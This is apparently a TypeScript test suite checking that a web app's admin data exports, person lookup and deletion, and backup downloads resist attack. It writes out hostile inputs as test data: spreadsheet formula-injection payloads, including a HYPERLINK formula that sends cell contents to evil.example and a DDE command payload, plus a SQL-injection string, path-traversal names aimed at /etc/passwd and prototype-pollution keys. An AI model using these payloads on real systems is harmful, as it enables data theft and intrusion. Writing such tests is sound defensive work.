import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, expect, test } from 'vitest'
import { openDatabase } from '../app/db/database.server.ts'
import { applicationRow, articleRow, storyRow } from '../app/db/testing/rows.ts'
import { withoutApostrophes } from '../app/platform/csv.ts'
import { owner } from '../server/testing/owner.ts'
import type { Answer } from './testing/answer.ts'
import { agent, type Cast, canary, editor, moderator, prepareCast } from './testing/cast.ts'
import { csvCells } from './testing/csv-cells.ts'
import { targetForFile } from './testing/target.ts'

const target = targetForFile()

const formula = `HYPERLINK("https://evil.example/?x="&A1,"Open")`
const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", ',=', ';=', '＝', '＋', '－', '＠']
const hostile = [
  ...starts.map((start) => start + formula),
  "=cmd|' /C calc'!A0",
  '"\r\n=1+1,"=2+2"',
  '\tx',
  '-x',
]
/** What a spreadsheet takes for a formula, also after blanks and signs that some of them skip. */
const runs = /^["\s,;]*[=+\-@＝＋－＠\t\r\n]/

/** Stands on every page, so it is told from the texts of people. */
const setting = '=1+1 is our brand'
const person = '+person=@example.net'

let cast: Cast

beforeAll(async () => {
  cast = await prepareCast(target.site)
  const database = await openDatabase(target.site)
  const chosen = JSON.stringify({ value: setting })
  await database.change(['stories', 'articles', 'settings'], async (trx) => {
    for (const text of hostile) {
      const story = { headline: text, full_name: text, how_helped: text, encouragement: text, phone: text }
      await trx
        .insertInto('approval_stories')
        .values(storyRow({ ...story, email: person }))
        .execute()
      const answers = { full_name: text, words: text, phone: text, email: person }
      await trx.insertInto('applications').values(applicationRow(answers)).execute()
      const article = { title: text, content: text, excerpt: text, author: text, image_alt: text }
      await trx.insertInto('articles').values(articleRow(article)).execute()
      const told = { actor: text, action: 'setting.change', subject_id: text, address: text }
      await trx
        .insertInto('audit_log')
        .values({
          ...told,
          id: crypto.randomUUID(),
          subject_kind: 'setting',
          facts: JSON.stringify({ text }),
        })
        .execute()
      await trx
        .insertInto('visit_counts')
        .values({ day: new Date().toISOString().slice(0, 10), path: text, event: 'view', count: 1 })
        .execute()
    }
    await trx
      .insertInto('settings')
      .values({ key: 'brand', chosen, updated_at: new Date(), updated_by: '=x@example.com' })
      .execute()
  })
  await database.close()
})

test.each(['applications', 'stories', 'articles', 'settings', 'audit'])(
  'no cell of the %s as CSV begins like a formula, and the file holds every text',
  async (what) => {
    const admin = await target.signedIn()
    const answer = await admin.post('/admin/data/export', { what, format: 'csv' })
    expectDownload(answer, 'text/csv', 'csv')
    const [head = [], ...rows] = csvCells(answer.body)
    expectHarmless(rows)
    for (const row of rows) expect(row).toHaveLength(head.length)
    if (what === 'settings') return expect(rows).toContainEqual(['brand', `'"${setting}"`])
    // Apostrophes are all that was added, and an import takes them off again.
    const column =
      { applications: 'full_name', stories: 'headline', articles: 'title', audit: 'actor' }[what] ?? ''
    const cells = rows.map((row) => row[head.indexOf(column)] ?? '')
    const texts = new Set(cells.map(withoutApostrophes))
    for (const text of hostile) expect(texts).toContain(text)
  },
)

test('no cell of the numbers begins like a formula', async () => {
  const admin = await target.signedIn()
  for (const days of ['7', '365', '=1', '-1', '9'.repeat(400)]) {
    const answer = await admin.get(`/admin/numbers.csv?days=${encodeURIComponent(days)}`)
    expectDownload(answer, 'text/csv', 'csv')
    expectHarmless(csvCells(answer.body))
    expect(answer.body).toContain('HYPERLINK')
  }
})

test.each(['applications', 'stories', 'articles', 'settings', 'audit', 'everything'])(
  'the %s as JSON hold every text as it was written',
  async (what) => {
    const admin = await target.signedIn()
    const answer = await admin.post('/admin/data/export', { what, format: 'json' })
    expectDownload(answer, 'application/json', 'json')
    const texts = new Set(textsIn(JSON.parse(answer.body)))
    if (what === 'settings') expect(texts).toContain(setting)
    else for (const text of hostile) expect(texts).toContain(text)
  },
)

test('what is kept about one person is told as it was written, and nothing about another', async () => {
  const admin = await target.signedIn()
  const answer = await admin.post('/admin/people/export', { who: person.toUpperCase() })
  expectDownload(answer, 'application/json', 'json')
  const texts = new Set(textsIn(JSON.parse(answer.body)))
  for (const text of hostile) expect(texts).toContain(text)
  expect(answer.body).not.toMatch(/pending@example\.net|token_hash|submission_key/)
})

test.each(['%', '_person=@example.net', '*', "' or 1=1 --", '+person=@example.net\u0000x', '', '__proto__'])(
  'the address %j finds nobody, and nothing of anybody is deleted',
  async (email) => {
    const admin = await target.signedIn()
    const shown = await admin.post('/admin/people', { who: email })
    expect(shown.body).not.toMatch(/HYPERLINK|pending@example\.net/)
    const file = JSON.parse((await admin.post('/admin/people/export', { who: email })).body)
    expect(file).toMatchObject({ stories: [], decisions: [], mails: [] })
    for (const again of ['', email.toUpperCase(), person])
      await admin.post('/admin/people', { intent: 'delete', who: email, again: again.slice(0, -1) || 'x' })
  },
)

test('a person is not deleted by who cannot say the address twice', async () => {
  const admin = await target.signedIn()
  const answer = await admin.post('/admin/people', { intent: 'delete', who: person, again: '' })
  expect(answer.status).toBe(422)
})

test('the log of the people pages and of the audit names nobody who was asked for', async () => {
  const admin = await target.signedIn()
  await admin.post('/admin/people', { who: 'asked.for@example.net' })
  await admin.post('/admin/people/export', { who: 'asked.for@example.net' })
  expect(target.site.output()).not.toContain('asked.for')
  expect(JSON.stringify(await target.rows('select * from audit_log'))).not.toContain('asked.for')
})

test.each(['passwords', '__proto__', 'constructor', 'admin_users', '../../etc/passwd', 'stories"; x="', ''])(
  'there is no download of %j',
  async (what) => {
    const admin = await target.signedIn()
    for (const format of ['csv', 'json', 'html'])
      expect((await admin.post('/admin/data/export', { what, format })).status).toBe(400)
  },
)

test.each([
  '..%2fsecond-key.sqlite',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2fetc%2fpasswd',
  '..%5csecond-key.sqlite',
  'second-key.sqlite',
  'second-key-20260101T000000Z.jsonl.gz.partial',
  'second-key-20260101T000000Z.jsonl.gz%01',
  'second-key-20260101T000000Z.jsonl.gz%2f',
  './second-key-20260101T000000Z.jsonl.gz%2f..',
  'SECOND-KEY-20260101T000000Z.JSONL.GZ',
  'second-key-20260230T000000Z.jsonl.gz',
  '__proto__',
])('no backup has the name %s, and no other file is sent or deleted by it', async (name) => {
  const admin = await target.signedIn()
  for (const answer of [
    await admin.get(`/admin/backups/${name}`, { Accept: 'text/html' }),
    await admin.post(`/admin/backups/${name}`, { password: owner.password }),
  ]) {
    expect([301, 308, 400, 404], answer.request).toContain(answer.status)
    expect(answer.headers['content-disposition'], answer.request).toBeUndefined()
    expect(answer.body, answer.request).not.toMatch(/SQLite format|root:x:|Nightingale/)
  }
  await admin.post('/admin/backups/delete', { name: decodeURIComponent(name) })
  expect(existsSync(join(target.site.dataDir, 'backups', cast.backup.name))).toBe(true)
  if (target.site.databaseUrl === undefined)
    expect(existsSync(join(target.site.dataDir, 'second-key.sqlite'))).toBe(true)
})

test('a backup is for an owner who knows their password, by post alone, and guesses come to an end', async () => {
  const path = `/admin/backups/${cast.backup.name}`
  const outsiders = [editor, moderator, agent].map((who) => target.signedIn(who))
  for (const visitor of [target.visitor(), ...(await Promise.all(outsiders))])
    for (const answer of [
      await visitor.get(path),
      await visitor.post(path, { password: owner.password }),
      await visitor.post('/admin/backups/delete', { name: cast.backup.name }),
    ]) {
      expect([302, 401, 403], answer.request).toContain(answer.status)
      expect(answer.body).not.toContain(canary)
    }
  const admin = await target.signedIn()
  expect((await admin.get(`${path}?password=${encodeURIComponent(owner.password)}`)).body).not.toContain(
    canary,
  )
  const guesses: Answer[] = []
  for (const password of ['', editor.password, owner.email, `${owner.password} `])
    guesses.push(await admin.post(path, { password }))
  expect(guesses.map(({ status }) => status)).toEqual([422, 422, 422, 422])
  const given = await admin.post(path, { password: owner.password })
  expect([given.status, given.body]).toEqual([200, `Backup ${canary}`])
  expect(given.headers).toMatchObject({
    'content-type': 'application/gzip',
    'content-length': String(given.body.length),
    'content-disposition': `attachment; filename="${cast.backup.name}"`,
    'cache-control': 'no-store',
  })
  for (let guess = 0; guess < 20; guess++)
    guesses.push(await admin.post(path, { password: `guess ${guess}` }))
  expect(guesses.at(-1)?.status).toBe(429)
  expect((await admin.post(path, { password: owner.password })).status).toBe(429)
  for (const { body, headers } of guesses) {
    expect(body).not.toContain(canary)
    expect(headers['content-disposition']).toBeUndefined()
  }
  expect(existsSync(join(target.site.dataDir, 'backups', cast.backup.name))).toBe(true)
})

test.each([
  ['a stranger', null, 401],
  ['an editor', editor, 403],
  ['a moderator', moderator, 403],
])('%s gets no download and learns of nobody', async (_, who, status) => {
  const visitor = who ? await target.signedIn(who) : target.visitor()
  for (const answer of [
    await visitor.post('/admin/data/export', { what: 'stories', format: 'csv' }),
    await visitor.post('/admin/data/export', { what: 'everything', format: 'json', photos: 'on' }),
    await visitor.post('/admin/people/export', { who: person }),
    await visitor.post('/admin/people', { who: person }),
    await visitor.post('/admin/people', { who: 'nobody@example.net' }),
    await visitor.post('/admin/people', { intent: 'delete', who: person, again: person }),
    await visitor.get('/admin/numbers.csv?days=7', { Accept: '*/*' }),
  ]) {
    expect(answer.status, answer.request).toBe(status)
    expect(answer.body, answer.request).not.toMatch(/HYPERLINK|example\.net/)
    expect(answer.headers['content-disposition'], answer.request).toBeUndefined()
  }
})

function expectDownload({ status, headers, request }: Answer, type: string, ending: string) {
  expect(status, request).toBe(200)
  expect(headers['content-type']).toBe(`${type}; charset=utf-8`)
  expect(headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${ending}"$`))
  expect(headers['cache-control']).toBe('no-store')
  // Sent as it is made: it may be longer than memory should hold.
  expect(headers['content-length']).toBeUndefined()
  expect(headers['x-content-type-options']).toBe('nosniff')
}

function expectHarmless(rows: string[][]) {
  expect(rows.length).toBeGreaterThan(0)
  expect(rows.flat().filter((cell) => runs.test(cell))).toEqual([])
}

/** Every text in a JSON value, also of texts that are JSON themselves. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : []
}
